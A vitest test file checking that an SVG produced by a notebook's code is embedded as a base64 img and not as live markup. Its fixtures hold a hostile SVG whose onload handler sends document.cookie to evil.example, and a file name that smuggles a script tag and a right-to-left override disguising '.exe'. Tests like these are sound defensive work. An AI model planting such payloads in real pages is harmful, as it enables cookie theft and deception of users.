// An SVG written by the model's code goes into a notebook as a picture, never as markup: VS Code's
// notebook renderer runs the scripts of an image/svg+xml output (see svgPicture.ts).
import { describe, expect, it } from 'vitest';
import { svgPictureHtml } from '../../../src/notebook/svgPicture';

const HOSTILE_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/?\'+document.cookie)"><script>alert(1)</script><image href="https://evil.example/p.png"/></svg>';

describe('svgPictureHtml', () => {
  it('is one <img> with the file as a base64 data: URI; nothing of the file is markup', () => {
    const bytes = new TextEncoder().encode(HOSTILE_SVG);
    const html = svgPictureHtml(bytes, 'plot.svg');
    const m = /^<img src="data:image\/svg\+xml;base64,([A-Za-z0-9+/]+=*)" alt="plot\.svg">$/.exec(html);
    expect(m).not.toBeNull();
    expect(Buffer.from(m?.[1] ?? '', 'base64').toString()).toBe(HOSTILE_SVG);
    expect(html).not.toMatch(/<svg|<script|onload|evil/);
  });

  it('shows a hostile file name escaped in the alt text', () => {
    const html = svgPictureHtml(new Uint8Array([60]), 'a"><script>x</script>\u202Egvs.exe');
    expect(html).not.toMatch(/<script|\u202E/);
    expect(html).toContain('alt="a&quot;&gt;&lt;script&gt;x&lt;/script&gt;\\u202egvs.exe"');
  });
});
